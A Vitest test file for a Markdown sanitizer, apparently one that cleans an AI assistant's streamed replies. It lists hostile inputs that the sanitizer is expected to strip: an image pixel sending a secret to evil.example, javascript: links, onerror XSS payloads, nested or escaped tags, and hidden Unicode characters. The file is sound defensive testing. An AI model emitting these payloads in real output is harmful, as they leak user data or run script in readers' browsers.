import { expect, test } from "vitest";
import { createStreamSanitizer, sanitize } from "#server/assistant/sanitize";
import { cpuTimeOf } from "#tests/helpers/spent";

/** Must never be left in a text shown as Markdown. */
const DANGEROUS =
  /<[a-z/!?]|!\[|\]\(|\]\[|\]:|[\u200b-\u200f\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/iu;

const ATTACKS = [
  "before ![pixel](https://evil.example/?q=secret) after",
  "[click here](javascript:alert(1))",
  "[![nested](https://evil.example/a)](https://evil.example/b)",
  "[reference][r]\n\n[r]: https://evil.example",
  "<img src=x onerror=alert(1)>",
  "<scr<b>ipt>alert(1)</scr</b>ipt>",
  "<img\nsrc=x onerror=alert(1)>",
  "<https://evil.example>",
  "![alt\n](https://evil.example)",
  "&lt;img src=x&gt; &#60;b&#62; &#x202e;backwards &rlm;",
  "&amp;lt;script&amp;gt;",
  "<&#105;mg src=x>",
  "!&#91;x](https://evil.example)",
  "<\u200bimg src=x>",
  "zero\u200bwidth \u202eright to left\u202c tag\u{e0041}s \ufeffmark",
  "<!-- hidden --> <?php ?> </p>",
];

test.each(ATTACKS)("nothing that loads, links or hides is left of %j", (text) => {
  expect(sanitize(text)).not.toMatch(DANGEROUS);
});

test.each(ATTACKS)("nothing dangerous is left of a stream of %j, cut anywhere", (text) => {
  for (let cut = 0; cut <= text.length; cut += 1) {
    const stream = createStreamSanitizer();
    const shown = stream.push(text.slice(0, cut)) + stream.push(text.slice(cut)) + stream.end();
    expect(shown).not.toMatch(DANGEROUS);
  }
  const stream = createStreamSanitizer();
  const alone = Array.from({ length: text.length }, (_, at) => stream.push(text.charAt(at)));
  expect(alone.join("") + stream.end()).not.toMatch(DANGEROUS);
});

test("words of links and images are kept, and ordinary text is unchanged", () => {
  expect(sanitize("See [our guide](https://x.example) and ![the plan](y).")).toBe(
    "See our guide and the plan.",
  );
  const plain = "R&D: 3 < 5, a > b, **bold**, `code`, AT&T! [1] (note)\n- one\n- two 👩🏽";
  expect(sanitize(plain)).toBe(plain);
});

test("double-escaped tags and tags inside tags are removed", () => {
  expect(sanitize("&amp;lt;b&amp;gt;bold&amp;lt;/b&amp;gt; words")).toBe("bold words");
  expect(sanitize("<scr<b>ipt>plain</scr</b>ipt> words")).toBe("plain words");
});

test("plain text passes a stream immediately, and only a possible construct waits", () => {
  const stream = createStreamSanitizer();
  expect(stream.push("Thank you! That")).toBe("Thank you! That");
  expect(stream.push(" is clear 👍 &")).toBe(" is clear 👍 ");
  expect(stream.push(" short. See [this")).toBe("& short. See ");
  expect(stream.push("](https://x.example) now\nNext")).toBe("this now\nNext");
  expect(stream.end()).toBe("");
});

test("hostile input is cleaned quickly", () => {
  for (const piece of ["<a", "[", "![", "[](", "&a", "<!--", "]["])
    expect(
      cpuTimeOf(() => sanitize(piece.repeat(30_000))),
      piece,
    ).toBeLessThan(1_000);
});

test("entities are decoded, and invalid ones are removed", () => {
  expect(sanitize("a &#233; &#xE9; &amp; b")).toBe("a é é & b");
  expect(sanitize("[&#0;&#1;&#x10FFFF;&#x110000;&#1114112;]")).toBe("[\u{10ffff}]");
  expect(sanitize("&unknown; 5 < 6 & more!")).toBe("unknown; 5 < 6 & more!");
  const wrapped = (rounds: number) => `&${"amp;".repeat(rounds)}lt;b>`;
  expect([3, 4, 5, 6].map((rounds) => sanitize(wrapped(rounds)))).toEqual(["", "", "lt;b>", "amp;lt;b>"]);
});
